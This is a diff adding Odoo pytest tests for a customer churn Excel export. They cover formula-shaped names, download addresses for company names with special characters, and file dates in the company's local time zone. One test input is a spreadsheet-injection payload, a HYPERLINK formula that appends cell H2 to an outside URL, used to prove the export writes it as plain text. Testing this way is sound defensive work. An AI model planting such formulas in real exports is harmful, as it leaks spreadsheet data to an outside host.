@@ -2,10 +2,13 @@
 
 import base64
 import io
-from datetime import datetime, timedelta
+import threading
+import urllib.parse
+from datetime import date, datetime, timedelta
 
 import openpyxl
 import pytest
+from freezegun import freeze_time
 
 from odoo.exceptions import AccessError, UserError
 
@@ -119,3 +122,56 @@ def test_users_outside_the_cockpit_cannot_export(shop, customers):
     clerk = mail_new_test_user(shop.env, login="export_clerk", groups="base.group_user", name="Clerk")
     with pytest.raises(AccessError):
         shop.env["customer.churn.export"].with_user(clerk).create({})
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(shop, rep):
+    """A shop named like a formula or a link is written as its name, never as a live formula."""
+    names = ['=HYPERLINK("https://x/?"&H2,"Open")', "https://shop.example/order", "+1-2", "@SUM(A1)"]
+    partners = shop.env["res.partner"].browse([shop.customer(name, user_id=rep.id).id for name in names])
+    action = (
+        shop.env.ref("customer_churn_cockpit.customer_churn_export_action")
+        .with_user(rep)
+        .with_context(active_model="res.partner", active_ids=partners.ids)
+        .run()
+    )
+    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
+    sheet = openpyxl.load_workbook(io.BytesIO(base64.b64decode(record.file))).active
+    cells = [sheet.cell(row, 1) for row in range(2, 6)]
+    assert sorted(cell.value for cell in cells) == sorted(names)
+    assert {cell.data_type for cell in cells} == {"s"}  # "f" would be a formula
+    assert not any(cell.hyperlink for cell in cells)
+    assert sheet["H6"].data_type == "f" and sheet["H6"].value == "=SUBTOTAL(109,H2:H5)"  # the totals stay formulas
+
+
+def download_route(env, url):
+    """What Odoo's router makes of the download address: the route's arguments, or NotFound."""
+    path = urllib.parse.unquote(urllib.parse.urlsplit(url).path)
+    thread = threading.current_thread()
+    previous, thread.dbname = getattr(thread, "dbname", None), env.cr.dbname
+    try:
+        return env["ir.http"].routing_map().bind("localhost").match(path)[1]
+    finally:
+        thread.dbname = previous
+
+
+def test_company_name_with_a_slash_still_downloads(shop, customers, rep):
+    """A company named "Foo/Bar" in the file name made the address /web/content/…/customers-Foo/Bar-….xlsx: a 404."""
+    shop.company.name = 'East/West "Trading" #1: 50% <off>?'
+    _sheet, action = export(shop.env, customers, rep)
+    route = download_route(shop.env, action["url"])
+    record = shop.env["customer.churn.export"].browse(route["id"])
+    assert (route["model"], route["field"]) == ("customer.churn.export", "file")
+    assert route["filename"] == record.filename
+    assert record.filename.startswith("customers-East-West -Trading- -1- 50% -off--")
+    assert not set('/\\:*?"<>|#') & set(record.filename)
+
+
+def test_file_is_named_with_the_companys_local_day(shop, customers, rep):
+    """23:30 UTC on 9 March is already 10 March in Shanghai, the day the figures are as of."""
+    shop.company.partner_id.tz = "Asia/Shanghai"
+    with freeze_time("2026-03-09 23:30:00"):
+        _sheet, action = export(shop.env, customers, rep)
+        today = shop.env["customer.churn.engine"]._today(shop.company)
+    record = shop.env["customer.churn.export"].browse(int(action["url"].split("/")[4]))
+    assert today == date(2026, 3, 10)
+    assert record.filename.endswith("-2026-03-10.xlsx")
